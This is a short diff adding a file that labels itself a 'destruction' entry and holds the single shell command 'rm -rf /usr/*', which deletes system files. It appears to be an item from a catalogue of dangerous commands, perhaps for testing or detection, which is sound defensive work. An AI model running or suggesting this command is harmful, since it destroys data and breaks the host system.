@@ -1,0 +1,3 @@
+# description: Deletes everything under /usr.
+# family: destruction
+rm -rf /usr/*
